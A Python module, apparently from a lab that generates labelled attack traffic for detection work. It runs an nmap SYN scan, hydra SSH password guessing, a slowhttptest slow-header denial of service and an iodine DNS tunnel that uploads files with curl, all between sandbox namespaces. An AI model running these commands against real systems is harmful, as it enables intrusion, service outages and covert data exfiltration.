"""The four attacks: real tools, bounded in count and time, only ever between our own namespaces."""

import random
import subprocess
import time
from collections.abc import Callable

import office
from office import RUN
from plan import Attack
from sandbox import call, inside, start
from truth import Fact, Sign

HOSTS = {host.name: host for host in office.HOSTS}
GUESSES = 220
SETTLE_S = 0.5


def carry_out(attack: Attack, rng: random.Random) -> Fact:
    """Runs one attack to its end and gives what is known of it for the truth file."""
    attacker, victim = HOSTS[attack.attacker], HOSTS[attack.victim]
    start_us = time.time_ns() // 1000
    known = TOOLS[attack.kind](attack, victim, rng)
    time.sleep(SETTLE_S)
    return Fact(
        what=attack.kind,
        attacker=attacker.address,
        victim=victim.address,
        start_us=start_us,
        end_us=time.time_ns() // 1000,
        sign=known,
    )


def _run(attack: Attack, *command: str) -> None:
    start(attack.attacker, *command, limit_s=attack.limit_s).wait()


def scan(attack: Attack, victim: office.Host, rng: random.Random) -> Sign:
    """A SYN scan of the most common thousand ports, from one port that nothing else can get."""
    port = rng.randrange(33_000, 60_000)
    call(*inside(attack.attacker, "sysctl", "-qw", f"net.ipv4.ip_local_reserved_ports={port}"))
    rate = 1000 / (attack.limit_s * 0.7)
    pace = ["-T4", "--top-ports", "1000", "--max-rate", f"{rate:.0f}"]
    _run(attack, "nmap", "-sS", "-Pn", "-n", *pace, "-g", str(port), victim.address)
    return Sign(attacker_port=port)


def guess(attack: Attack, victim: office.Host, rng: random.Random) -> Sign:
    """Password guessing with a short list that does not hold the right word."""
    words = RUN / "guesses.txt"
    stems = ("admin", "summer", "welcome", "qwerty", "letmein", "dragon", "office", "secret", "pass")
    words.write_text("".join(f"{rng.choice(stems)}{rng.randrange(1000)}\n" for _ in range(GUESSES)))
    account = rng.choice(("root", "admin", "backup"))
    pace = ["-t", "4", "-w", "3"]
    _run(attack, "hydra", "-l", account, "-P", str(words), *pace, "-f", "-I", f"ssh://{victim.address}")
    return Sign(victim_port=22)


def slow(attack: Attack, victim: office.Host, rng: random.Random) -> Sign:
    """Slow request headers on many connections at once."""
    connections = min(120, round(attack.limit_s * 3))
    interval = rng.randint(4, 7) if attack.limit_s > 20 else 2
    pace = ["-c", str(connections), "-r", "10", "-i", str(interval), "-l", str(round(attack.limit_s * 0.85))]
    _run(attack, "slowhttptest", "-H", *pace, "-p", "3", "-u", f"http://{victim.address}/")
    return Sign(victim_port=80)


def tunnel(attack: Attack, _: office.Host, rng: random.Random) -> Sign:
    """Files and small requests over IP in DNS, through the office's own resolver."""
    end = time.monotonic() + attack.limit_s
    how = ["-f", "-r", "-m", "400", "-T", "TXT", "-P", office.PASSWORD]
    where = [office.RESOLVER, office.TUNNEL_DOMAIN]
    process = start(attack.attacker, "iodine", *how, *where, limit_s=attack.limit_s)
    while time.monotonic() < end and not _tunnel_is_up(attack.attacker):
        time.sleep(0.3)
    while (left_s := end - time.monotonic()) > 2:
        parcel = f"{RUN}/parcels/{rng.randrange(office.PARCELS)}"
        inner = f"http://{office.TUNNEL_INSIDE}.1"
        upload, page = ["-T", parcel, f"{inner}/drop/x"], [f"{inner}/p/{rng.randrange(8)}.html"]
        errand = upload if rng.random() < 0.6 else page
        curl = ["curl", "-s", "-o", "/dev/null", "-m", f"{min(20.0, left_s):.1f}"]
        subprocess.run(inside(attack.attacker, *curl, *errand), check=False)
        time.sleep(min(max(0.0, end - time.monotonic()), rng.lognormvariate(0.7, 0.8)))
    process.wait()
    return Sign(domain=office.TUNNEL_DOMAIN)


def _tunnel_is_up(namespace: str) -> bool:
    return office.TUNNEL_INSIDE in call("ip", "-n", namespace, "-4", "addr", "show")


TOOLS: dict[str, Callable[[Attack, office.Host, random.Random], Sign]] = {
    "port scan": scan,
    "password guessing": guess,
    "slow http": slow,
    "dns tunnel": tunnel,
}
